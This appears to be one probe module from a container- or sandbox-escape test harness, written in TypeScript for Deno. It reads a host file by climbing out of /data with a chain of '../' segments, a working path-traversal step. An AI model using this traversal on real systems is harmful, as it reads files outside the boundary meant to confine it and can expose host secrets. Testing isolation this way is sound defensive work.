// Climbs out of /data by dot segments.
import type { Target } from "../attack.ts";

export const layer = "namespaces";

export default async function (target: Target): Promise<string | null> {
  return await Deno.readTextFile(`/data/../../../../../..${target.hostFile}`);
}
